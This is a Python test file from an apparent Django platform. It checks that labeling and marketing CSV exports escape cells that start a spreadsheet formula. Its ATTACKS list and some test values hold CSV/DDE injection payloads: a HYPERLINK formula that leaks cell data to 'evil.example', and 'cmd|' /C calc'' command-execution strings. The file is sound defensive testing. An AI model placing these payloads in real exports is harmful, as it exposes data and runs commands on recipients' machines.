"""Issue 21, finding 5 (CSV formula injection), written as the attack: text one user controls lands in
a CSV another user opens in a spreadsheet. A cell that begins with = + - @, a tab or a carriage
return must reach the file escaped (a leading single quote), so that no spreadsheet runs it."""

import csv
import io
import json

import pytest

from aigc_platform.core.spreadsheets import csv_cell
from applications.marketing.models import Generation, Template, Variant
from infrastructure.storage.selectors import file_get, file_open
from infrastructure.storage.services import file_store
from tools_layer.datasets import services as dataset_services
from tools_layer.datasets.selectors import dataset_version_items
from tools_layer.labeling import services as labeling_services

pytestmark = pytest.mark.django_db

ATTACKS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your invoice")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C notepad'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["Plain copy that stays as it is.", "降噪耳机，通勤更安静。", "A dash - inside is fine", "'already quoted"]


def _formula_free(cell: str) -> bool:
    return not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_every_formula_start_is_escaped_and_other_text_is_kept():
    for attack in ATTACKS:
        assert csv_cell(attack) == "'" + attack
    for text in HARMLESS:
        assert csv_cell(text) == text
    assert csv_cell(-3) == -3 and csv_cell(7) == 7  # numbers the platform writes stay numbers


def test_a_labeling_export_does_not_carry_a_contributor_s_formula_into_the_owner_s_spreadsheet(
    operator, make_user, client_for
):
    # Given a dataset whose texts a contributor wrote as formulas, labelled by an annotator in a project
    rows = ATTACKS + HARMLESS
    dataset = dataset_services.dataset_create(owner=operator, name="contributed", kind="text")
    data = "\n".join(json.dumps({"text": text}) for text in rows).encode()
    stored = file_store(owner=operator, stream=io.BytesIO(data), filename="texts.jsonl")
    dataset_services.dataset_import_file(dataset=dataset, file=stored, options={}, owner=operator)
    version = dataset_services.dataset_version_create(dataset=dataset, user=operator, validation_fraction=0)
    annotator = make_user("creator")
    project = labeling_services.project_create(
        owner=operator,
        name="=cmd|' /C calc'!A0",
        task_type="single_label",
        labels=["pos", "-neg"],
        dataset_version=version,
        annotators=[annotator.username],
    )
    client = client_for(annotator)
    while (task := client.post(f"/api/v1/labeling/projects/{project.pk}/next-task/")).status_code == 200:
        answered = client.post(
            f"/api/v1/labeling/tasks/{task.json()['id']}/annotations/", {"value": {"label": "-neg"}}, format="json"
        )
        assert answered.status_code == 201, answered.json()
    # When the owner exports the labels as CSV
    result = labeling_services.project_export_run(project=project, owner=operator, options={"format": "csv"})
    with file_open(file=file_get(user=operator, pk=result["file"])) as stream:
        table = list(csv.reader(io.StringIO(stream.read().decode("utf-8-sig"))))
    # Then no cell starts a formula, and each attack is there, escaped, word for word
    cells = [cell for row in table for cell in row]
    assert all(_formula_free(cell) for cell in cells), [cell for cell in cells if not _formula_free(cell)]
    texts = [row[2] for row in table[1:]]
    # (the import trims whitespace and drops duplicates: "\t=1+1" and "\r=1+1" are stored as one "=1+1")
    stored = [entry.text for entry in dataset_version_items(version=version)]
    assert sorted(texts) == sorted("'" + text if text.startswith(("=", "+", "-", "@")) else text for text in stored)
    assert sum(text.startswith(("'=", "'+", "'-", "'@")) for text in texts) == 5
    assert {row[3] for row in table[1:]} == {"'-neg"}


def test_a_marketing_export_escapes_copy_a_creator_edited_into_a_formula(creator, client_for):
    # Given a variant whose text was edited into a formula, for a product named like one
    template = Template.objects.create(
        slug="headline",
        name="Headline",
        prompt="A headline for {product}.",
        fields=[{"name": "headline", "label": "Headline", "min_chars": 1, "max_chars": 120}],
    )
    generation = Generation.objects.create(
        owner=creator,
        template=template,
        product="@SUM(1+9)*cmd|' /C calc'!A0",
        audience="everyone",
        tone="bold",
        language="en",
        variant_count=len(ATTACKS),
        generator="smollm2-135m-instruct v1",
    )
    for index, attack in enumerate(ATTACKS):
        Variant.objects.create(
            generation=generation, index=index, text=attack, fields={"headline": attack}, passed=True, edited=True
        )
    # When the creator (or anyone they share the file with) downloads the CSV
    response = client_for(creator).get(f"/api/v1/marketing/generations/{generation.pk}/export/?format=csv")
    assert response.status_code == 200
    table = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    # Then every cell is formula-free and the copy is kept, escaped
    cells = [cell for row in table for cell in row]
    assert all(_formula_free(cell) for cell in cells), [cell for cell in cells if not _formula_free(cell)]
    header = table[0]
    assert [row[header.index("text")] for row in table[1:]] == ["'" + attack for attack in ATTACKS]
    assert {row[header.index("product")] for row in table[1:]} == {"'@SUM(1+9)*cmd|' /C calc'!A0"}
